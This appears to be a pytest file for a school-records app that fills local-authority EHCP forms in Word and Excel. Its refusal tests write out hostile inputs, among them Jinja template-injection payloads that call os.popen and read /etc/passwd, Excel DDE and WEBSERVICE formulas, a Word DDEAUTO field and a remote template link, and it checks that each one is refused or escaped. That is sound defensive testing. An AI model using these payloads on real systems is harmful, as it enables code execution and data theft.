"""Forms of local authorities: read, refused, filled with what the record holds, kept in the pupil's file."""

import datetime
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document as Word
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from openpyxl import Workbook, load_workbook

from ehcp.enums import FormPurpose
from ehcp.la_forms import parts
from ehcp.la_forms.fields import FIELDS, ROWS
from ehcp.la_forms.mapping import FormProblem, Mapping, read_mapping
from ehcp.la_forms.packs import Pack, shipped
from ehcp.la_forms.record import missing_in, record_of
from ehcp.models import LaForm
from pupils.models import Document
from sendhub import uploads
from sendhub.audit.models import Entry
from sendhub.jobs.models import Job
from sendhub.jobs.registry import KINDS
from sendhub.jobs.task import Task
from sendhub.refusals import NotPossible
from sendhub.tenancy import tenant
from tests.factories import ehcp, ehcp_reviews, pupils
from tests.factories.accounts import LocalAuthorityFactory

TODAY = datetime.date.today()
REVIEW, REQUEST = FormPurpose.REVIEW, FormPurpose.REQUEST


def word(*paragraphs, rows=()):
    """A Word form of these paragraphs, and a table of one column with these rows."""
    form = Word()
    for text in paragraphs:
        form.add_paragraph(text)
    if rows:
        table = form.add_table(0, 1)
        for text in rows:
            table.add_row().cells[0].text = text
    return saved(form)


def sheet(**cells):
    book = Workbook()
    book.active.title = "Form"
    for address, value in cells.items():
        book.active[address] = value
    return saved(book)


def saved(file):
    target = io.BytesIO()
    file.save(target)
    return target.getvalue()


def pack(content, *, ending="docx", purpose=REVIEW, **mapping):
    return Pack("1", "Form", ending, Mapping(purpose=purpose, **mapping), content)


def blank(purpose):
    """Every field of the record, with a text of its own; no rows."""
    return {key: f"<{key}>" for key in FIELDS[purpose]} | {name: [] for name in ROWS[purpose]}


def words_of(content):
    """The text of a Word file: paragraphs, then cells, then footers."""
    form = Word(io.BytesIO(content))
    texts = [paragraph.text for paragraph in form.paragraphs]
    texts += [cell.text for table in form.tables for row in table.rows for cell in row.cells]
    return texts + [paragraph.text for paragraph in form.sections[0].footer.paragraphs]


def problems_of(pack):
    with pytest.raises(FormProblem) as refused:
        pack.found()
    return refused.value.problems


# --- filling -------------------------------------------------------------------------------------


def test_word_form_takes_words_rows_and_names_of_its_own():
    form = pack(
        word(
            "Child: {{ child }}, born {{ pupil.born_on }}",
            "{%p if changes %}",
            "Changes follow",
            "{%p endif %}",
            rows=("{%tr for person in people %}", "{{ person.name }}", "{%tr endfor %}"),
        ),
        names={"child": "pupil.full_name"},
    )
    values = blank(REVIEW) | {
        "pupil.full_name": "Edyta & Łukasz <b>",
        "people": [{"name": "Maris"}, {"name": "Orla"}],
    }

    filled = words_of(form.filled(values))

    assert filled == [
        "Child: Edyta & Łukasz <b>, born <pupil.born_on>",
        "Maris",
        "Orla",
        "",
    ]


def test_name_that_word_cut_into_runs_is_one_name():
    form = Word()
    paragraph = form.add_paragraph()
    for piece in ("Born {", "{ pupil.", "born_on }", "}"):
        paragraph.add_run(piece)

    assert words_of(pack(saved(form)).filled(blank(REVIEW))) == ["Born <pupil.born_on>", ""]


def test_text_of_a_person_is_never_read_as_a_form():
    form = pack(word("{{ notes.working }}"))
    values = blank(REVIEW) | {"notes.working": "{{ pupil.upn }} {% for %}\nSecond\x0b line"}

    assert words_of(form.filled(values)) == ["{{ pupil.upn }} {% for %}\nSecond line", ""]


def test_excel_form_takes_names_cells_and_numbered_rows():
    form = pack(
        sheet(
            A1="Born {{ pupil.born_on }}",
            A2="{{ people.1.name }}",
            A3="{{ people.2.name }}",
            A4="=1+1",
            A5="Name: {{ people.1.name }}",
            A6="Name: {{ people.2.name }}",
        ),
        ending="xlsx",
        cells={"Form!B1": "pupil.full_name"},
    )
    values = blank(REVIEW) | {"people": [{"name": "Maris"}], "pupil.full_name": "=cmd|'/c calc'!A1"}

    filled = load_workbook(io.BytesIO(form.filled(values)))["Form"]

    assert filled["A1"].value == "Born <pupil.born_on>"
    assert (filled["A2"].value, filled["A3"].value) == ("Maris", None)
    assert (filled["A5"].value, filled["A6"].value) == ("Name: Maris", None)
    assert (filled["A4"].data_type, filled["A4"].value) == ("f", "=1+1")
    assert (filled["B1"].data_type, filled["B1"].value) == ("s", "=cmd|'/c calc'!A1")


# --- refused -------------------------------------------------------------------------------------


def test_unknown_names_are_all_told_in_plain_words():
    form = pack(
        word(
            "{{ pupil.shoe_size }} {{ teacher }}",
            rows=("{%tr for person in people %}", "{{ person.age }}", "{%tr endfor %}"),
        )
    )

    assert problems_of(form) == (
        "The form names “pupil.shoe_size”, which the record does not have.",
        "The form names “teacher”, which the record does not have.",
        "The form names “person.age”, which the record does not have.",
    )


def test_list_named_as_a_word_is_unknown():
    assert problems_of(pack(word("{{ people }}"))) == (
        "The form names “people”, which the record does not have.",
    )


@pytest.mark.parametrize(
    "command",
    [
        "{{ pupil.__class__.__mro__ }}",
        "{{ ''.__class__ }}",
        "{{ pupil['upn'] }}",
        "{{ self.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ pupil.upn|attr('__class__') }}",
        "{{ range(999999999) }}",
        "{{ pupil.upn * 999999999 }}",
        "{% set x = pupil %}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% for a in people %}{% for b in people %}x{% endfor %}{% endfor %}",
        "{% for a in people recursive %}x{% endfor %}",
        "{% for a in 'abc' %}x{% endfor %}",
        "{% macro x() %}{% endmacro %}",
        "{% filter upper %}x{% endfilter %}",
        "{% if pupil.upn == 'A' %}x{% endif %}",
    ],
)
def test_hostile_word_form_is_refused_before_it_runs(command):
    for sentence in problems_of(pack(word(command))):
        assert sentence.startswith(("The form names “", "SENDHub fills in words,"))


@pytest.mark.parametrize("command", ["{{ pupil.upn", "{% for", "{{ " * 40, "{{" + "x" * 300 + "}}"])
def test_braces_left_open_are_told(command):
    [sentence] = problems_of(pack(word(command)))

    assert sentence.startswith("The form has a “{{” or “{%” that is not closed.")


def test_loop_that_does_not_end_is_told_in_plain_words():
    [sentence] = problems_of(pack(word("{% for person in people %}")))

    assert sentence.startswith("The form’s commands do not fit together: ")


@pytest.mark.parametrize(
    "command",
    ["{{ ''.__class__ }}", "{% for x in people %}", "{{ pupil.upn", "{{ people.0.name }}"],
)
def test_hostile_excel_form_is_refused(command):
    sentences = problems_of(pack(sheet(A1=command), ending="xlsx"))

    assert len(sentences) == 1


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://far.example")', "=cmd|'/c calc'!A1", "=[1]Far!A1", '=RTD("x",,"y")'],
)
def test_excel_formula_that_reaches_out_is_refused(formula):
    assert problems_of(pack(sheet(A1=formula), ending="xlsx")) == (parts.COMMANDS,)


def test_excel_cell_and_sheet_that_are_not_there_are_told():
    book = Workbook()
    book.active.title = "Form"
    book.active.merge_cells("A1:B1")
    form = pack(saved(book), ending="xlsx", cells={"Form!B1": "pupil.upn", "Gone!A1": "pupil.upn"})

    assert problems_of(form) == (
        "The cell Form!B1 lies inside joined cells: name the first of them.",
        "The form has no sheet “Gone”.",
    )


def with_part(content, name, body):
    target = io.BytesIO(content)
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr(name, body)
    return target.getvalue()


def with_template_from_far():
    form = Word()
    form.part.rels.get_or_add_ext_rel(
        RELATIONSHIP_TYPE.HYPERLINK.replace("hyperlink", "attachedTemplate"),
        "https://far.example/evil.dotm",
    )
    return saved(form)


def with_field(*pieces):
    form = Word()
    paragraph = form.add_paragraph()
    for piece in pieces:
        text = OxmlElement("w:instrText")
        text.text = piece
        paragraph.add_run()._r.append(text)
    return saved(form)


def with_hyperlink():
    form = Word()
    link = form.part.rels.get_or_add_ext_rel(
        RELATIONSHIP_TYPE.HYPERLINK, "https://wraxshire.example"
    )
    element = OxmlElement("w:hyperlink")
    element.set(qn("r:id"), link)
    form.add_paragraph()._p.append(element)
    return saved(form)


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        pytest.param(with_template_from_far(), parts.OUTSIDE, id="template"),
        pytest.param(with_field("DD", "EAUTO c:\\calc"), parts.COMMANDS, id="dde"),
        pytest.param(with_field(" INCLUDETEXT https://far.example "), parts.COMMANDS, id="include"),
        pytest.param(
            with_part(word("x"), "word/embeddings/a.bin", b"x"), parts.EMBEDDED, id="embedded"
        ),
        pytest.param(
            with_part(word("x"), "word/more.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
            parts.DAMAGED,
            id="entity",
        ),
        pytest.param(with_part(word("x"), "word/more.xml", b"<a>"), parts.DAMAGED, id="broken"),
        pytest.param(
            with_part(word("x"), "word/more.xml", b"<a>" + b" " * 5_000_000 + b"</a>"),
            parts.TOO_LONG,
            id="long",
        ),
    ],
)
def test_form_that_brings_more_than_text_is_refused(content, sentence):
    assert problems_of(pack(content)) == (sentence,)


def test_link_to_click_on_is_no_harm():
    assert pack(with_hyperlink()).found().problems == []


def test_archive_that_is_no_form_is_refused():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("a.txt", "x")

    assert problems_of(pack(target.getvalue())) == (parts.DAMAGED,)


# --- the mapping file ----------------------------------------------------------------------------


def test_mapping_file_tells_everything_that_is_wrong():
    text = """
    colour = "red"
    needed = ["pupil.shoe_size"]
    [names]
    Child = "pupil.upn"
    people = "pupil.upn"
    [cells]
    "B4" = "pupil.upn"
    """

    with pytest.raises(FormProblem) as refused:
        read_mapping(text.encode(), purpose=REVIEW)

    assert refused.value.problems == (
        "The mapping file has a line “colour” that SENDHub does not know.",
        "“Child” cannot be a name in a form: small letters, digits and _ only.",
        "“people” is a name of the record already: choose another.",
        "“B4” is no cell: write the sheet and the cell, such as “Form!B4”.",
        "The record has no field “pupil.shoe_size”.",
    )


@pytest.mark.parametrize(
    ("content", "beginning"),
    [
        (b"\xff\xfe", "The mapping file cannot be read as TOML"),
        (b"title = ", "The mapping file cannot be read as TOML"),
        (b"[" * 90_000, "The mapping file cannot be read as TOML"),
        (b" " * 100_001, "The mapping file is larger than 100 kB."),
        (b"names = 3", "[names] and [cells] are lists of lines"),
        (b"title = 3", "“title” must be words in quotation marks."),
        (b"[names]\na = 3", "The record has no field “3”."),
    ],
    ids=("bytes", "half", "deep", "large", "kind", "title", "value"),
)
def test_broken_mapping_file_is_refused(content, beginning):
    with pytest.raises(FormProblem) as refused:
        read_mapping(content, purpose=REVIEW)

    assert str(refused.value).startswith(beginning)


def test_mapping_file_of_a_folder_says_its_purpose():
    with pytest.raises(FormProblem) as refused:
        read_mapping(b'title = "A form"')

    assert refused.value.problems == ("The mapping file says no purpose: “review” or “request”.",)


# --- the record ----------------------------------------------------------------------------------


@pytest.fixture
def pupil(school):
    pupil = pupils.PupilFactory(
        school=school,
        first_name="Edyta",
        last_name="Alderbrook",
        born_on=datetime.date(2017, 5, 3),
        nc_year="4",
    )
    pupils.RelationshipFactory(
        pupil=pupil,
        contact=pupils.ContactFactory(
            school=school,
            title="Ms",
            first_name="Ada",
            last_name="Alderbrook",
            mobile="07700 900123",
        ),
        has_parental_responsibility=True,
    )
    pupils.RelationshipFactory(
        pupil=pupil,
        contact=pupils.ContactFactory(
            school=school, first_name="Far", last_name="Away", mobile="07700 900999"
        ),
        no_contact=True,
        no_contact_reason="Court order",
    )
    return pupil


@pytest.fixture
def review(pupil):
    plan = ehcp.EhcPlanFactory(pupil=pupil, reference="WX/214", officer="R. Thorne")
    version = ehcp.EhcPlanVersionFactory(pupil=pupil, plan=plan)
    outcome = ehcp.OutcomeTextFactory(
        pupil=pupil,
        plan_version=version,
        line=ehcp.OutcomeLineFactory(pupil=pupil, plan=plan, number=1),
    )
    ehcp.CareTextFactory(pupil=pupil, plan_version=version, line__number=1)
    review = ehcp_reviews.AnnualReviewFactory(
        pupil=pupil,
        plan=plan,
        plan_version=version,
        state="held",
        meeting_on=datetime.date(2026, 11, 16),
        notes={"child_words": "I like maths.", "differences": "No differences."},
        recommendation="amend",
        recommendation_reason="More time is needed.",
    )
    part = {"pupil": pupil, "review": review}
    ehcp_reviews.ReviewPersonFactory(
        **part, name="Maris Fenwick", role="psychologist", attended=True
    )
    ehcp_reviews.OutcomeRatingFactory(
        **part, line=outcome.line, rating="0", evidence="Two steps, four times of five"
    )
    ehcp_reviews.ReviewChangeFactory(**part, reason="She tires")
    return review


@pytest.fixture
def case(pupil):
    return ehcp.NeedsAssessmentFactory(
        pupil=pupil, answers={"reason": "Two cycles did not close the gap."}
    )


@pytest.mark.parametrize("purpose", FormPurpose.values)
def test_record_answers_every_name_a_form_may_use(purpose, review, case, senco_actor):
    subject = review if purpose == REVIEW else case
    with tenant(subject.school_id):
        values = record_of(subject, purpose=purpose, by=senco_actor, today=TODAY)

    assert set(values) == {*FIELDS[purpose], *ROWS[purpose]}
    for name, rows in ROWS[purpose].items():
        assert all(set(line) == set(rows.columns) for line in values[name])
    words = [text for text in values.values() if not isinstance(text, list)]
    words += [text for name in ROWS[purpose] for line in values[name] for text in line.values()]
    assert {type(text) for text in words} <= {str}


def test_words_of_a_request_that_was_sent_lead_nowhere(case, senco_actor):
    form = pack(word("{{ answers.reason }}"), purpose=REQUEST)
    values = blank(REQUEST) | {"answers.reason": ""}
    [before] = missing_in(form, form.found(), values, subject=case)
    case.state = "request_sent"
    [after] = missing_in(form, form.found(), values, subject=case)

    assert (before.where, before.address) == (
        "Write the request",
        reverse("ehcp:assessment_edit", kwargs={"needs_assessment_pk": case.pk}),
    )
    assert (after.where, after.address) == ("The request was sent without it", "")


def test_number_of_an_adult_without_contact_stays_here(review, senco_actor):
    with tenant(review.school_id):
        adults = record_of(review, purpose=REVIEW, by=senco_actor, today=TODAY)["adults"]

    assert [(each["name"], each["telephone"], each["note"]) for each in adults] == [
        ("Ms Ada Alderbrook", "07700 900123", ""),
        ("Far Away", "", "No contact: do not write to or call this person"),
    ]


# --- what comes with the program -----------------------------------------------------------------


def test_every_shipped_pack_names_only_what_the_record_has():
    found = {each.key: each.found() for each in shipped()}

    assert {key: each.problems for key, each in found.items()} == {
        "wraxshire-annual-review": [],
        "wraxshire-assessment-request": [],
    }


def facts_of(content):
    """The two-column tables of a Word file as {left: right}."""
    tables = Word(io.BytesIO(content)).tables
    rows = [row.cells for table in tables if len(table.columns) == 2 for row in table.rows]
    return {left.text: right.text for left, right in rows}


def test_annual_review_form_holds_the_record(review, senco_actor):
    [form] = [each for each in shipped() if each.mapping.purpose == REVIEW]
    with tenant(review.school_id):
        values = record_of(
            review, purpose=REVIEW, by=senco_actor, today=datetime.date(2026, 11, 20)
        )

    content = form.filled(values)

    facts = facts_of(content)
    assert facts == facts | {
        "Full name": "Edyta Alderbrook",
        "Date of birth": "3 May 2017",
        "Authority and social worker": "Not looked after",
        "Case officer": "R. Thorne",
        "Date of the meeting": "16 November 2026",
        "The school recommends": "Amend the plan",
        "Reason": "More time is needed.",
        "Where people differ": "No differences.",
        "LA’s decision due": "14 December 2026",
        "Date": "20 November 2026",
    }
    tables = [
        [[cell.text for cell in row.cells] for row in table.rows]
        for table in Word(io.BytesIO(content)).tables
    ]
    assert [table[1:] for table in tables if len(table[0]) != 2] == [
        [
            ["Ms Ada Alderbrook", "", "Yes", "07700 900123 "],
            ["Far Away", "", "No", " No contact: do not write to or call this person"],
        ],
        [["Maris Fenwick", "Educational psychologist", "", "Yes", ""]],
        [
            [
                "E1 Follows a spoken instruction of two steps in lessons",
                "As expected",
                "Two steps, four times of five",
                "",
            ]
        ],
        [
            [
                "G1 Visit of the community nurse to check the feeding plan",
                "30 minutes each half term",
                "Children’s community nursing",
            ]
        ],
        [["F", "Ten minutes more a day", "She tires"]],
    ]
    assert words_of(content)[-1] == "Edyta Alderbrook, plan WX/214 · filled on 20 November 2026"
    assert "{" not in "".join(words_of(content))


def test_assessment_form_holds_the_record(case, senco_actor):
    [form] = [each for each in shipped() if each.mapping.purpose == REQUEST]
    ehcp.EvidenceItemFactory(school=case.school, label="Two reviewed plans")
    with tenant(case.school_id):
        values = record_of(case, purpose=REQUEST, by=senco_actor, today=datetime.date(2026, 11, 20))

    book = load_workbook(io.BytesIO(form.filled(values)))

    facts = {row[0]: row[1] for row in book["Request"].iter_rows(values_only=True)}
    assert facts == facts | {
        "Full name": "Edyta Alderbrook",
        "Date of birth": "3 May 2017",
        "Ms Ada Alderbrook": " · parental responsibility: Yes · 07700 900123  ",
        "Why now": "Two cycles did not close the gap.",
        "What the family says": "Has not been told yet",
        "Told on": None,
    }
    evidence = list(book["Evidence"].iter_rows(min_row=3, max_row=4, values_only=True))
    assert evidence == [("Two reviewed plans", "Missing", None), (None, None, None)]
    left = [c.value for s in book for row in s for c in row if "{" in str(c.value)]
    assert left == []


# --- pages ---------------------------------------------------------------------------------------


def upload(client, content, *, name="form.docx", mapping=b"", **values):
    data = {
        "local_authority": client.school.local_authority_id,
        "purpose": "review",
        "title": "Form AR2",
        "file": SimpleUploadedFile(name, content),
        **values,
    }
    if mapping:
        data["mapping_file"] = SimpleUploadedFile("pack.toml", mapping)
    return client.post(reverse("ehcp:la_form_add"), data)


def run(job, school):
    """Do what the worker does with the job."""
    task = Task(job, KINDS[job.kind])
    with tenant(school.pk):
        return KINDS[job.kind].run(task, **job.args)


@pytest.mark.parametrize("who", ["senco_client", "admin_client"])
def test_form_is_looked_at_added_offered_and_ended(request, who, school):
    client = request.getfixturevalue(who)

    response = upload(
        client,
        word("Child: {{ child }}"),
        mapping=b'needed = ["pupil.upn"]\n[names]\nchild = "pupil.full_name"',
    )

    assert response.url == reverse("ehcp:la_form_list")
    with tenant(school.pk):
        form = LaForm.objects.get()
    assert (form.title, form.ending, form.mapping["needed"]) == ("Form AR2", "docx", ["pupil.upn"])
    assert "Form AR2" in client.get(response.url).content.decode()
    empty = client.get(reverse("ehcp:la_form_file", kwargs={"la_form_pk": form.pk}))
    assert words_of(empty.content) == ["Child: {{ child }}", ""]
    client.post(reverse("ehcp:la_form_end", kwargs={"la_form_pk": form.pk}))
    again = client.post(reverse("ehcp:la_form_end", kwargs={"la_form_pk": form.pk}))
    assert again.status_code == 409
    assert "Form AR2" not in client.get(reverse("ehcp:la_form_list")).content.decode()


@pytest.mark.parametrize(
    ("content", "values", "field", "sentences"),
    [
        pytest.param(
            word("{{ pupil.shoe_size }} {{ pupil.__class__ }}"),
            {},
            "file",
            [
                "The form names “pupil.shoe_size”, which the record does not have.",
                "The form names “pupil.__class__”, which the record does not have.",
            ],
            id="unknown",
        ),
        pytest.param(b"x", {"name": "form.docm"}, "file", [uploads.FORM_TAKEN], id="macros"),
        pytest.param(b"%PDF-", {"name": "form.pdf"}, "file", [uploads.FORM_TAKEN], id="pdf"),
        pytest.param(
            word("x"), {"mapping": b"="}, "mapping_file", ["cannot be read as TOML"], id="mapping"
        ),
        pytest.param(word("x"), {"title": " "}, "title", ["This field is required."], id="title"),
    ],
)
def test_form_that_is_not_taken_says_why(senco_client, school, content, values, field, sentences):
    response = upload(senco_client, content, **values)

    errors = response.context["form"].errors[field]
    assert len(errors) == len(sentences)
    assert all(want in said for want, said in zip(sentences, errors, strict=True))
    with tenant(school.pk):
        assert LaForm.objects.count() == 0


def test_second_form_of_one_name_is_refused(senco_client, school):
    ehcp.LaFormFactory(school=school, title="Form AR2")

    response = upload(senco_client, word("x"))

    assert response.context["form"].errors == {"title": ["A form of this name is in use already."]}


def test_page_lists_what_is_missing_then_the_worker_fills_it(
    review, school, senco_client, senco_actor
):
    upload(
        senco_client,
        word("{{ pupil.full_name }} {{ pupil.upn }} {{ notes.working }}"),
        mapping=b'needed = ["notes.working"]',
    )
    address = reverse("ehcp:review_la_forms", kwargs={"review_pk": review.pk})

    page = senco_client.get(address)

    [(offer, missing, too_long), *_] = page.context["offers"]
    meeting = reverse("ehcp:review_meeting", kwargs={"review_pk": review.pk})
    assert [(m.label, m.address, m.is_needed) for m in missing] == [
        ("What is working", meeting, True)
    ]
    assert too_long == []

    response = senco_client.post(address, {"form": offer.key})

    job = Job.objects.get(kind="la_form")
    assert response.url == job.get_absolute_url()
    result = run(job, school)
    with tenant(school.pk):
        document = Document.objects.get()
        audited = Entry.objects.filter(event="la_form_filled").get()
    assert result == reverse("pupils:document_download", kwargs={"document_pk": document.pk})
    assert (document.title, document.kind, document.pupil_id) == (
        "Form AR2",
        "ehc",
        review.pupil_id,
    )
    assert "Alderbrook" not in document.name
    assert (audited.pupil_id, audited.object_id) == (review.pupil_id, review.pk)
    filled = b"".join(senco_client.get(result).streaming_content)
    assert words_of(filled) == [f"Edyta Alderbrook {review.pupil.upn} ", ""]
    assert [each.pk for each in senco_client.get(address).context["filled"]] == [document.pk]


def test_form_of_another_la_is_not_offered(case, school, senco_client):
    ehcp.LaFormFactory(
        school=school,
        purpose="request",
        local_authority=LocalAuthorityFactory(code="998"),
        content=word("x"),
    )
    address = reverse("ehcp:assessment_la_forms", kwargs={"needs_assessment_pk": case.pk})

    offered = [pack.key for pack, *_ in senco_client.get(address).context["offers"]]
    assert offered == ["wraxshire-assessment-request"]
    assert senco_client.post(address, {"form": "1"}).status_code == 200
    assert not Job.objects.filter(kind="la_form").exists()


def test_form_that_was_ended_meanwhile_is_not_filled(review, school, senco_client):
    form = ehcp.LaFormFactory(school=school, content=word("x"))
    address = reverse("ehcp:review_la_forms", kwargs={"review_pk": review.pk})
    senco_client.post(address, {"form": str(form.pk)})
    senco_client.post(reverse("ehcp:la_form_end", kwargs={"la_form_pk": form.pk}))

    with pytest.raises(NotPossible, match="taken out of use"):
        run(Job.objects.get(kind="la_form"), school)


def test_excel_form_that_is_too_short_says_so(review, school, senco_client):
    upload(senco_client, sheet(A1="{{ adults.1.name }}"), name="form.xlsx")

    page = senco_client.get(reverse("ehcp:review_la_forms", kwargs={"review_pk": review.pk}))

    [(_, _, too_long), *_] = page.context["offers"]
    assert too_long == ["Adults of the pupil: the form has 1 lines, the record 2."]


@pytest.mark.parametrize("rows", [1, 3])
def test_query_budgets(rows, review, case, school, senco_client, assert_page_queries):
    for _ in range(rows):
        ehcp.LaFormFactory(school=school, content=word("x"))
        ehcp.LaFormFactory(school=school, purpose="request", content=word("x"))
        ehcp_reviews.ReviewPersonFactory(pupil=review.pupil, review=review)

    with assert_page_queries(6):
        senco_client.get(reverse("ehcp:la_form_list"))
    with assert_page_queries(26):
        senco_client.get(reverse("ehcp:review_la_forms", kwargs={"review_pk": review.pk}))
    with assert_page_queries(24):
        senco_client.get(
            reverse("ehcp:assessment_la_forms", kwargs={"needs_assessment_pk": case.pk})
        )
